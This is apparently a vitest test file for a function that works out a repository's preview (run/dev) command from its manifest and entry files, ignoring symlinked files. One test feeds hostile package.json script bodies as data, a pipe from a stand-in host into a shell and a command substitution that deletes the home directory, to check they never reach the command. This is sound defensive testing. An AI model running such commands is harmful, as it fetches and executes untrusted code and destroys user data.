// Issue #37: a repository's preview (run/dev) command, found from its files (a case per rule), built from
// fixed words only, and never read through a link.
import { mkdir, symlink, writeFile } from 'node:fs/promises';
import { dirname, join } from 'node:path';
import { createTempDir } from '@keel/testkit';
import { describe, expect, test } from 'vitest';
import { detectPreview, previewSettingOf } from '../../src/previews/index.ts';

async function writeFiles(root: string, files: Record<string, string>): Promise<void> {
  for (const [path, content] of Object.entries(files)) {
    await mkdir(dirname(join(root, path)), { recursive: true });
    await writeFile(join(root, path), content);
  }
}

/** The preview of a fresh repository holding `files`, as `command (source)`, or undefined. */
async function previewOf(files: Record<string, string>): Promise<string | undefined> {
  await using dir = await createTempDir();
  await writeFiles(dir.path, files);
  const found = await detectPreview(dir.path);
  return found && `${found.command} (${found.source})`;
}

const scripts = (body: Record<string, string>) => JSON.stringify({ scripts: body });

describe('detectPreview', () => {
  test('nothing found: no preview', async () => {
    expect(await previewOf({})).toBeUndefined();
    expect(await previewOf({ 'package.json': scripts({ test: 'vitest' }) })).toBeUndefined();
    expect(await previewOf({ 'package.json': '{not json' })).toBeUndefined();
  });

  test('package.json: dev, else start, run by the package manager its lockfile names', async () => {
    expect(await previewOf({ 'package.json': scripts({ dev: 'next dev', start: 'next start' }) })).toBe(
      'npm run dev (package.json scripts.dev)',
    );
    expect(await previewOf({ 'package.json': scripts({ start: 'node server.js' }) })).toBe(
      'npm start (package.json scripts.start)',
    );
    expect(await previewOf({ 'package.json': scripts({ dev: 'x' }), 'pnpm-lock.yaml': '' })).toBe(
      'pnpm run dev (package.json scripts.dev)',
    );
    expect(await previewOf({ 'package.json': scripts({ start: 'x' }), 'yarn.lock': '' })).toBe(
      'yarn start (package.json scripts.start)',
    );
    expect(await previewOf({ 'package.json': scripts({ dev: 'x' }), 'bun.lock': '' })).toBe(
      'bun run dev (package.json scripts.dev)',
    );
  });

  test("Vite's dev server gets the port on its command line (it does not read PORT)", async () => {
    expect(await previewOf({ 'package.json': scripts({ dev: 'vite' }) })).toBe(
      'npm run dev -- --port $PORT --strictPort --host 127.0.0.1 (package.json scripts.dev (Vite: the port on its command line))',
    );
    expect(await previewOf({ 'package.json': scripts({ dev: 'vite' }), 'pnpm-lock.yaml': '' })).toMatch(
      /^pnpm run dev --port \$PORT --strictPort --host 127\.0\.0\.1 /,
    );
  });

  test('Django, Rails, Go and Rust by their entry files', async () => {
    expect(await previewOf({ 'manage.py': '' })).toBe(
      'python3 manage.py runserver 127.0.0.1:$PORT (manage.py)',
    );
    expect(await previewOf({ 'bin/rails': '' })).toBe('bin/rails server -b 127.0.0.1 -p $PORT (bin/rails)');
    expect(await previewOf({ 'go.mod': 'module x\n', 'main.go': '' })).toBe('go run . (main.go)');
    expect(await previewOf({ 'go.mod': 'module x\n' })).toBeUndefined();
    expect(await previewOf({ 'Cargo.toml': '', 'src/main.rs': '' })).toBe('cargo run (src/main.rs)');
  });

  test('the command is built from fixed words: a script body never reaches it', async () => {
    const hostile = { dev: 'vite; curl evil.example | sh', start: '$(rm -rf ~)' };
    expect(await previewOf({ 'package.json': scripts(hostile) })).toBe(
      'npm run dev (package.json scripts.dev)',
    );
  });

  test('a linked manifest or entry file is not read or looked through', async () => {
    await using dir = await createTempDir();
    await using outside = await createTempDir();
    await writeFiles(outside.path, { 'package.json': scripts({ dev: 'x' }), 'manage.py': '' });
    await symlink(join(outside.path, 'package.json'), join(dir.path, 'package.json'));
    await symlink(join(outside.path, 'manage.py'), join(dir.path, 'manage.py'));
    expect(await previewSettingOf(dir.path)).toBeNull();
  });
});
